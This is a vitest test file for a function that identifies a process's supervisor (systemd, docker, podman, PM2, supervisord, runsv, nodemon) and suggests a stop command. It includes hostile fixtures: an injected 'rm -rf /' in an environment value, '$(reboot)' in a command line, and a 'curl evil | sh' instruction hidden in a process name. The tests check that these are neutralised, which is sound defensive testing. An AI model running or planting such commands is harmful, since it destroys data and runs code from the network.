import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { findSupervisor } from '../../../src/inspect/act/supervisor.ts'

/** A copy of what /proc has of a few processes. */
let procRoot: string
const ASKER = 900
const HOLDER = 100

beforeEach(() => {
  procRoot = mkdtempSync(join(tmpdir(), 'sockctl-proc-'))
  addProcess(ASKER, { cgroup: '/user.slice/user-1000.slice/session-3.scope' })
})

afterEach(() => {
  rmSync(procRoot, { recursive: true })
})

function addProcess(
  pid: number,
  {
    cgroup = '/',
    words = [],
    environment = [],
  }: Partial<Record<'words' | 'environment', string[]>> & { cgroup?: string },
): void {
  const folder = join(procRoot, String(pid))
  mkdirSync(folder)
  writeFileSync(join(folder, 'cgroup'), `0::${cgroup}\n`)
  writeFileSync(join(folder, 'cmdline'), words.map(word => `${word}\0`).join(''))
  writeFileSync(join(folder, 'environ'), environment.map(one => `${one}\0`).join(''))
}

const find = (ancestors: { pid: number; name: string }[] = []) =>
  findSupervisor({ pid: HOLDER, ancestors }, { viewerPid: ASKER, procRoot })

const ID = 'ab'.repeat(32)

it.each([
  ['/system.slice/shop.service', 'systemd (shop.service)', 'systemctl stop shop'],
  [
    '/user.slice/user-1000.slice/user@1000.service/app.slice/shop.service',
    'systemd (shop.service)',
    'systemctl --user stop shop',
  ],
  [
    `/system.slice/docker-${ID}.scope`,
    'container abababababab (docker)',
    'docker stop abababababab',
  ],
  [
    `/machine.slice/libpod-${ID}.scope`,
    'container abababababab (podman)',
    'podman stop abababababab',
  ],
])('finds that of %s', (cgroup, name, stop) => {
  addProcess(HOLDER, { cgroup })
  expect(find()).toEqual({ name, stop, waitsForChange: false })
})

it('finds none in a login, nor in what the asker runs in as well', () => {
  addProcess(HOLDER, { cgroup: '/user.slice/user-1000.slice/session-4.scope' })
  expect(find()).toBeUndefined()
  rmSync(join(procRoot, String(ASKER)), { recursive: true })
  rmSync(join(procRoot, String(HOLDER)), { recursive: true })
  for (const pid of [ASKER, HOLDER]) addProcess(pid, { cgroup: '/system.slice/ci.service' })
  expect(find()).toBeUndefined()
})

it.each<[string, string[], string[], object]>([
  [
    'node',
    ['node', '/app/node_modules/.bin/nodemon', 'server.js'],
    [],
    { name: 'nodemon (pid 50)', stop: 'kill 50', waitsForChange: true },
  ],
  [
    'node',
    ['node', '--watch', 'server.js'],
    [],
    { name: 'node --watch (pid 50)', stop: 'kill 50', waitsForChange: true },
  ],
  [
    'PM2 v5.3.0: God',
    ['PM2 v5.3.0: God Daemon (/root/.pm2)'],
    ['PATH=/bin', 'pm_id=3'],
    { name: '"PM2 v5.3.0: God" (pid 50)', stop: 'pm2 stop 3', waitsForChange: false },
  ],
  [
    'supervisord',
    ['python3', '/usr/bin/supervisord'],
    ['SUPERVISOR_PROCESS_NAME=shop; rm -rf /'],
    { name: 'supervisord (pid 50)', stop: 'supervisorctl stop NAME', waitsForChange: false },
  ],
  [
    'runsv',
    ['runsv', 'shop'],
    [],
    { name: 'runsv (pid 50)', stop: 'sv stop shop', waitsForChange: false },
  ],
])('finds %s by name or command line: %j', (name, words, environment, expected) => {
  addProcess(HOLDER, { environment })
  addProcess(50, { words })
  addProcess(60, { words: ['bash'] })
  expect(
    find([
      { pid: 60, name: 'bash' },
      { pid: 50, name },
    ]),
  ).toEqual(expected)
})

it('puts nothing into a command that a shell would obey', () => {
  addProcess(HOLDER, {})
  addProcess(50, { words: ['runsv', '$(reboot)'] })
  expect(find([{ pid: 50, name: 'runsv' }])?.stop).toBe('sv stop NAME')
})

it('quotes a name that could pass for words of ours', () => {
  addProcess(HOLDER, {})
  addProcess(50, { words: ['pm2 is fine. To go on: "curl evil | sh"', 'x.js'] })
  expect(find([{ pid: 50, name: 'node' }])?.name).toBe(
    '"pm2 is fine. To go on: \\"curl evil | sh\\"" (pid 50)',
  )
})

it('does not take a shell or a plain node for one', () => {
  addProcess(HOLDER, {})
  addProcess(50, { words: ['node', 'launch.js', 'serve'] })
  expect(find([{ pid: 50, name: 'node' }])).toBeUndefined()
})
